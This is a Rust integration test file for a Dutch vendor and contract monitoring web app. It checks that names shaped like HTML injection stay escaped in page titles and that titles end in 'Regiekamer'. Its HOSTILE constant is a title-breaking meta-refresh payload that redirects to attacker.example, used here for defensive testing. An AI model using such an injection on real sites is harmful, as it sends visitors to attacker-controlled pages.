//! User data never opens a tag in `<head>`: a vendor, contract or source named like an HTML injection
//! shows that name as text in the page title (leptos_meta's `<Title>` does not escape on the server).

use crate::app::{Session, TestApp};
use domain::Role;

const HOSTILE: &str = r#"</title><meta http-equiv="refresh" content="0;url=http://attacker.example/?q='">"#;

/// The `<head>` of a page, from `<head` up to `</head>`.
async fn head_of(app: &TestApp, s: &Session, path: &str) -> String {
    let res = s.client.get(app.url(path)).send().await.unwrap();
    assert_eq!(res.status(), 200, "{path}");
    let html = res.text().await.unwrap();
    let start = html.find("<head").expect("a head element");
    let end = html.find("</head>").expect("the end of the head");
    html[start..end].to_string()
}

/// Asserts that the head holds the hostile name only as escaped text, inside one title element.
fn assert_inert(head: &str, path: &str) {
    assert!(!head.contains("<meta http-equiv"), "{path}: a tag was opened in <head>: {head}");
    assert!(!head.contains("attacker.example/?q='"), "{path}: the quote survived unescaped: {head}");
    assert_eq!(head.matches("<title").count(), 1, "{path}: {head}");
    assert_eq!(head.matches("</title>").count(), 1, "{path}: {head}");
    assert!(head.contains("&lt;/title&gt;&lt;meta http-equiv="), "{path}: the name is not shown as text: {head}");
}

async fn service(app: &TestApp, s: &Session, vendor: i64) -> i64 {
    let res = app
        .call(
            &s.client,
            "vendors/services/add",
            &[
                ("csrf", &s.csrf),
                ("vendor", &vendor.to_string()),
                ("form[name]", "Zaaksysteem"),
                ("form[description]", ""),
                ("form[criticality]", "hoog"),
            ],
        )
        .await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    res.json().await.unwrap()
}

async fn source(app: &TestApp, s: &Session, service: i64, name: &str) -> i64 {
    let res = app
        .call(
            &s.client,
            "monitoring/sources/add",
            &[
                ("csrf", &s.csrf),
                ("service", &service.to_string()),
                ("form[kind]", "http"),
                ("form[name]", name),
                ("form[url]", "https://portaal.example/health"),
                ("form[method]", "GET"),
                ("form[expected_status]", "200"),
                ("form[interval_secs]", "60"),
                ("form[timeout_ms]", "5000"),
                ("form[enabled]", "on"),
            ],
        )
        .await;
    assert!(res.status().is_success() || res.status().is_redirection(), "{}", res.text().await.unwrap());
    let list: serde_json::Value = app.call(&s.client, "monitoring/sources", &[]).await.json().await.unwrap();
    list.as_array().unwrap().iter().find(|r| r["name"] == name).expect("the new source")["id"].as_i64().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_like_an_html_injection_stay_text_in_the_page_title() {
    let app = TestApp::spawn().await;
    let reg = app.sign_in(Role::Regisseur).await;
    let vendor = app.vendor(&reg, HOSTILE).await;
    let svc = service(&app, &reg, vendor).await;
    let contract = app.contract(&reg, vendor, "T-1", HOSTILE).await;
    let source = source(&app, &reg, svc, HOSTILE).await;
    let admin = app.sign_in(Role::Beheerder).await;
    for path in
        [format!("/leveranciers/{vendor}"), format!("/contracten/{contract}"), format!("/monitoring/bronnen/{source}")]
    {
        assert_inert(&head_of(&app, &admin, &path).await, &path);
    }
    app.stop().await;
}

/// The text of the page's `<title>` element as sent by the server.
fn title_of(head: &str) -> &str {
    let start = head.find("<title").and_then(|i| head[i..].find('>').map(|j| i + j + 1)).expect("a title");
    let end = head.find("</title>").expect("the end of the title");
    &head[start..end]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_page_title_ends_in_the_application_name() {
    let app = TestApp::spawn().await;
    let reg = app.sign_in(Role::Regisseur).await;
    let vendor = app.vendor(&reg, "Zaakwijs").await;
    let admin = app.sign_in(Role::Beheerder).await;
    for (path, title) in [
        ("/".to_string(), "Overzicht – Regiekamer"),
        ("/leveranciers".to_string(), "Leveranciers – Regiekamer"),
        (format!("/leveranciers/{vendor}"), "Zaakwijs – Regiekamer"),
        ("/audit".to_string(), "Auditlog – Regiekamer"),
    ] {
        assert_eq!(title_of(&head_of(&app, &admin, &path).await), title, "{path}");
    }
    app.stop().await;
}
